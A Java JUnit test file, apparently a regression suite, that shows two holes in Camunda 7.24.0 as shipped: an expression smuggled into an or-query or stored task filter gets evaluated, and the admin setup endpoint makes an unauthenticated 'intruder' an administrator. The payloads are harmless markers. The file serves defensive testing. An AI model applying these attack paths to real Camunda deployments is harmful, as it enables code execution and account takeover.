package io.aftercare.platform;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.sql.SQLException;
import java.util.Date;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.camunda.bpm.admin.impl.web.SetupResource;
import org.camunda.bpm.engine.BadUserRequestException;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.authorization.Groups;
import org.camunda.bpm.engine.filter.Filter;
import org.camunda.bpm.engine.rest.dto.identity.UserCredentialsDto;
import org.camunda.bpm.engine.rest.dto.identity.UserDto;
import org.camunda.bpm.engine.rest.dto.identity.UserProfileDto;
import org.camunda.bpm.engine.task.TaskQuery;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** The holes that {@link QueryExpressionTest} and {@link AdministratorSetupTest} show closed, on Camunda as it is shipped. */
@DisplayName("Camunda 7.24.0 as it is shipped has two holes")
class ShippedEngineTest {

    private static final Witness WITNESS = new Witness();

    private static BareEngine bare;

    @BeforeAll
    static void start() throws SQLException {
        bare = new BareEngine(Map.of("witness", WITNESS));
    }

    @AfterAll
    static void stop() {
        bare.close();
    }

    /** Says whether an expression was evaluated. */
    public static final class Witness {
        private final AtomicInteger calls = new AtomicInteger();

        public Date seen() {
            calls.incrementAndGet();
            return new Date(0);
        }
    }

    @Test
    @DisplayName("CVE-2026-109432: an expression inside an or-query is evaluated, which at the top is refused")
    void an_expression_sent_with_a_query_is_evaluated() {
        TaskQuery top = bare.engine().getTaskService().createTaskQuery().dueBeforeExpression("${witness.seen()}");
        assertThatThrownBy(top::list).isInstanceOf(BadUserRequestException.class);
        assertThat(WITNESS.calls).hasValue(0);

        TaskQuery inner = bare.engine()
                .getTaskService()
                .createTaskQuery()
                .or()
                .dueBeforeExpression("${witness.seen()}")
                .endOr();
        inner.list();
        assertThat(WITNESS.calls).as("the hole").hasValue(1);

        Filter filter = bare.engine().getFilterService().newTaskFilter("hole");
        filter.setQuery(bare.engine()
                .getTaskService()
                .createTaskQuery()
                .or()
                .dueBeforeExpression("${witness.seen()}")
                .endOr());
        bare.engine().getFilterService().saveFilter(filter);
        bare.engine().getFilterService().list(filter.getId());
        assertThat(WITNESS.calls).as("the hole in stored filters").hasValue(2);
    }

    /** The web application's own class, told which engine to use; everything else is as shipped. */
    private static final class ShippedSetup extends SetupResource {
        private final ProcessEngine engine;

        ShippedSetup(ProcessEngine engine) {
            this.engine = engine;
        }

        @Override
        protected ProcessEngine lookupProcessEngine(String name) {
            return engine;
        }

        void check() {
            ensureSetupAvailable(engine);
        }
    }

    @Test
    @DisplayName("CVE-2026-77226: the web application makes an administrator while the group is empty, whoever asks")
    void nobody_logs_in_and_becomes_administrator() throws Exception {
        ShippedSetup setup = new ShippedSetup(bare.engine());
        UserProfileDto profile = new UserProfileDto();
        profile.setId("intruder");
        UserCredentialsDto credentials = new UserCredentialsDto();
        credentials.setPassword("Intruder-Pass-1");
        UserDto user = new UserDto();
        user.setProfile(profile);
        user.setCredentials(credentials);

        setup.check();
        assertThatCreates(setup, user, bare.engine());
        assertThatThrownBy(setup::check).as("closed once somebody is in it").isInstanceOf(Exception.class);
    }

    private static void assertThatCreates(ShippedSetup setup, UserDto user, ProcessEngine engine) throws Exception {
        setup.createInitialUser(BareEngine.NAME, user);
        assertThat(engine.getIdentityService()
                        .createUserQuery()
                        .memberOfGroup(Groups.CAMUNDA_ADMIN)
                        .singleResult()
                        .getId())
                .as("the hole: nobody had logged in")
                .isEqualTo("intruder");
    }
}
